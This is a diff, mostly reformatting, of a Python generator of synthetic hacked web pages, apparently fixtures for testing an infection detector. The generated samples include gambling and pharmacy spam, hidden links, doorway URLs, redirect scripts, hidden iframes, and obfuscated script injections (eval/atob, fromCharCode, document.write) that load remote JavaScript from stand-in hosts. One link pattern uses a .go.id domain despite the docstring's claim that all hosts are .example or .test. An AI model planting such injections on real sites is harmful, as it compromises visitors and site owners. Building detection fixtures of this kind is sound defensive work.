@@ -1,3 +1,4 @@
+# ruff: noqa: E501  pages and scripts stand here as they come, unbroken
 """Infected pages: one indicator each in a realistic page, at the strength it usually has, in several guises; and combinations.
 
 All hosts end in .example or .test, and all brands are made up from general words.
@@ -20,7 +21,13 @@ SELLING_PROSE = (
     "<p>Selamat datang di {brand}, situs slot gacor maxwin terpercaya dengan RTP live tertinggi. Daftar sekarang, deposit pulsa tanpa potongan, "
     "bonus new member 100 dan link alternatif selalu aktif. Slot gacor gampang menang setiap malam.</p>"
 )
-DRUGS = ("buy cheap viagra online", "cialis without prescription", "generic levitra price", "online pharmacy tramadol", "kamagra overnight delivery")
+DRUGS = (
+    "buy cheap viagra online",
+    "cialis without prescription",
+    "generic levitra price",
+    "online pharmacy tramadol",
+    "kamagra overnight delivery",
+)
 KANA = (
     "【送料無料】ブランド バッグ 激安 通販", "人気 スニーカー 新品 正規品 セール", "楽天 最安値 腕時計 メンズ 中古", "カーテン 遮光 オーダー 販売 税込",
     "ゴルフクラブ セット レディース おすすめ", "コスメ ランキング ファンデーション",
@@ -45,7 +52,11 @@ def brand(chance: Random) -> str:
 
 def host(chance: Random) -> str:
     """A throw-away host: half of them say what they are."""
-    name = brand(chance) if chance.random() < 0.5 else f"{chance.choice(('kebun', 'toko', 'sinar', 'jaya', 'go', 'lp'))}-{chance.getrandbits(20):x}"
+    name = (
+        brand(chance)
+        if chance.random() < 0.5
+        else f"{chance.choice(('kebun', 'toko', 'sinar', 'jaya', 'go', 'lp'))}-{chance.getrandbits(20):x}"
+    )
     return f"{name}.{chance.choice(('example', 'test'))}"
 
 
@@ -107,7 +118,11 @@ def hidden_strangers(chance: Random) -> Injected:
 
 def hidden_words(chance: Random) -> Injected:
     text = SELLING_PROSE.format(brand=brand(chance)) * chance.randint(1, 3)
-    return Injected(body=chance.choice((HIDING[0], HIDING[2].replace("p", "div", 1).replace("/p>", "/div>"), HIDING[5], HIDING[7], HIDING[10])).format(text))
+    return Injected(
+        body=chance.choice((HIDING[0], HIDING[2].replace("p", "div", 1).replace("/p>", "/div>"), HIDING[5], HIDING[7], HIDING[10])).format(
+            text
+        )
+    )
 
 
 def shown_links(chance: Random) -> Injected:
@@ -120,7 +135,9 @@ def link_in_sentence(chance: Random) -> Injected:
 
 
 def links_to_hacked_offices(chance: Random) -> Injected:
-    links = " ".join(f'<a href="https://dinas{n}.wanasari.go.id/wp-content/">{chance.choice(SELL)}</a>' for n in range(chance.randint(2, 8)))
+    links = " ".join(
+        f'<a href="https://dinas{n}.wanasari.go.id/wp-content/">{chance.choice(SELL)}</a>' for n in range(chance.randint(2, 8))
+    )
     return Injected(foot=f"<div>{links}</div>")
 
 
@@ -144,7 +161,9 @@ def priced_product(chance: Random) -> Injected:
 
 
 def priced_microdata(chance: Random) -> Injected:
-    return Injected(body=f'<div itemscope itemtype="https://schema.org/Product"><span itemprop="name">{brand(chance)}</span><meta itemprop="price" content="9000"></div>')
+    return Injected(
+        body=f'<div itemscope itemtype="https://schema.org/Product"><span itemprop="name">{brand(chance)}</span><meta itemprop="price" content="9000"></div>'
+    )
 
 
 def amphtml(chance: Random) -> Injected:
@@ -156,12 +175,19 @@ def canonical(chance: Random) -> Injected:
 
 
 def doorway_address(chance: Random) -> Injected:
-    key, value = chance.choice((("daftar", brand(chance)), ("slot", "gacor-maxwin"), ("togel", "hongkong"), ("link", "slot-gacor"), ("rtp", brand(chance))))
+    key, value = chance.choice(
+        (("daftar", brand(chance)), ("slot", "gacor-maxwin"), ("togel", "hongkong"), ("link", "slot-gacor"), ("rtp", brand(chance)))
+    )
     return Injected(address=f"/{chance.choice(('', 'index.php', 'berita/'))}?{key}={value}", body=SELLING_PROSE.format(brand=brand(chance)))
 
 
 def doorway_links(chance: Random) -> Injected:
-    return Injected(foot=" ".join(f'<a href="/{chance.choice(("", "ppid/"))}?{chance.choice(("slot", "daftar", "gacor"))}={brand(chance)}">{brand(chance)}</a>' for _n in range(4)))
+    return Injected(
+        foot=" ".join(
+            f'<a href="/{chance.choice(("", "ppid/"))}?{chance.choice(("slot", "daftar", "gacor"))}={brand(chance)}">{brand(chance)}</a>'
+            for _n in range(4)
+        )
+    )
 
 
 def brand_list(chance: Random) -> Injected:
@@ -172,7 +198,9 @@ def brand_list(chance: Random) -> Injected:
 
 def keyword_metas(chance: Random) -> Injected:
     words = chance.sample(SELL, chance.randint(5, 12))
-    description = f"{brand(chance).upper()} adalah situs slot gacor maxwin terpercaya, RTP live, deposit pulsa tanpa potongan, link alternatif."
+    description = (
+        f"{brand(chance).upper()} adalah situs slot gacor maxwin terpercaya, RTP live, deposit pulsa tanpa potongan, link alternatif."
+    )
     return Injected(head=f'<meta name="keywords" content="{", ".join(words)}"><meta name="description" content="{description}">')
 
 
@@ -180,7 +208,11 @@ def doorway_head(chance: Random) -> Injected:
     """Title, description and text exchanged, as a plugin of attackers does; no link at all."""
     title = f"{brand(chance).upper()}: {chance.choice(SELL).title()} Maxwin Terpercaya"
     description = f"{title} dengan bonus new member, deposit pulsa dan RTP live slot gacor."
-    return Injected(title=title, head=f'<meta property="og:title" content="{title}"><meta name="description" content="{description}">', body=SELLING_PROSE.format(brand=brand(chance)) * 2)
+    return Injected(
+        title=title,
+        head=f'<meta property="og:title" content="{title}"><meta name="description" content="{description}">',
+        body=SELLING_PROSE.format(brand=brand(chance)) * 2,
+    )
 
 
 def kana_title(chance: Random) -> Injected:
@@ -193,7 +225,9 @@ def drug_title(chance: Random) -> Injected:
 
 
 def pictures(chance: Random) -> Injected:
-    return Injected(body="".join(f'<img src="https://{host(chance)}/{n}.webp" alt="{chance.choice(SELL)}">' for n in range(chance.randint(1, 5))))
+    return Injected(
+        body="".join(f'<img src="https://{host(chance)}/{n}.webp" alt="{chance.choice(SELL)}">' for n in range(chance.randint(1, 5)))
+    )
 
 
 def shop_template(chance: Random) -> Injected:
@@ -210,7 +244,18 @@ def refresh(chance: Random) -> Injected:
 
 def script_redirect(chance: Random) -> Injected:
     target = f"https://{host(chance)}/"
-    return Injected(head="<script>" + chance.choice((f'window.location.href="{target}";', f"location.replace('{target}')", f'var u="{target}";setTimeout(function(){{window.location=u}},500);', f'top.location="{target}"')) + "</script>")
+    return Injected(
+        head="<script>"
+        + chance.choice(
+            (
+                f'window.location.href="{target}";',
+                f"location.replace('{target}')",
+                f'var u="{target}";setTimeout(function(){{window.location=u}},500);',
+                f'top.location="{target}"',
+            )
+        )
+        + "</script>"
+    )
 
 
 def choosy_redirect(chance: Random) -> Injected:
@@ -225,7 +270,13 @@ def choosy_redirect(chance: Random) -> Injected:
 
 def payload(chance: Random) -> str:
     target = f"https://{host(chance)}/j.js"
-    return chance.choice((f"document.write('<script src=\"{target}\"><\\/script>')", f"window.location.href='{target}'", f"var s=document.createElement('script');s.src='{target}';document.head.appendChild(s)"))
+    return chance.choice(
+        (
+            f"document.write('<script src=\"{target}\"><\\/script>')",
+            f"window.location.href='{target}'",
+            f"var s=document.createElement('script');s.src='{target}';document.head.appendChild(s)",
+        )
+    )
 
 
 def coded_script(chance: Random) -> Injected:
@@ -239,7 +290,11 @@ def coded_script(chance: Random) -> Injected:
         f"document.write(unescape('{percent}'))", f"var _=[{numbers}],s='';for(var i=0;i<_.length;i++)s+=String.fromCharCode(_[i]);eval(s)",
         f"new Function(atob('{coded}'))()", f"setTimeout(atob('{coded}'),10)", f"var a='{coded}';var b=atob('{coded}');eval(b)",
     ))  # fmt: skip
-    return Injected(head=f"<script>{script}</script>") if chance.random() < 0.5 else Injected(foot=f"<script type='text/javascript'>{script}</script>")
+    return (
+        Injected(head=f"<script>{script}</script>")
+        if chance.random() < 0.5
+        else Injected(foot=f"<script type='text/javascript'>{script}</script>")
+    )
 
 
 def packed_script(chance: Random) -> Injected:
@@ -258,12 +313,22 @@ def renamed_script(chance: Random) -> Injected:
 
 
 def written_script(chance: Random) -> Injected:
-    return Injected(foot=f"<script>document.write('<scr'+'ipt src=\"//{host(chance)}/x.js\"></scr'+'ipt>');document.write(\"<script src='https://{host(chance)}/t.js'><\\/script>\");</script>")
+    return Injected(
+        foot=f"<script>document.write('<scr'+'ipt src=\"//{host(chance)}/x.js\"></scr'+'ipt>');document.write(\"<script src='https://{host(chance)}/t.js'><\\/script>\");</script>"
+    )
 
 
 def frame(chance: Random) -> Injected:
     target = f"https://{host(chance)}/"
-    return Injected(foot=chance.choice((f'<iframe src="{target}" width="0" height="0" frameborder="0"></iframe>', f'<iframe src="{target}" style="display:none"></iframe>', f'<iframe src="https://{brand(chance)}.example/" width="100%" height="2000"></iframe>')))
+    return Injected(
+        foot=chance.choice(
+            (
+                f'<iframe src="{target}" width="0" height="0" frameborder="0"></iframe>',
+                f'<iframe src="{target}" style="display:none"></iframe>',
+                f'<iframe src="https://{brand(chance)}.example/" width="100%" height="2000"></iframe>',
+            )
+        )
+    )
 
 
 def cloaked_links(chance: Random) -> Injected:
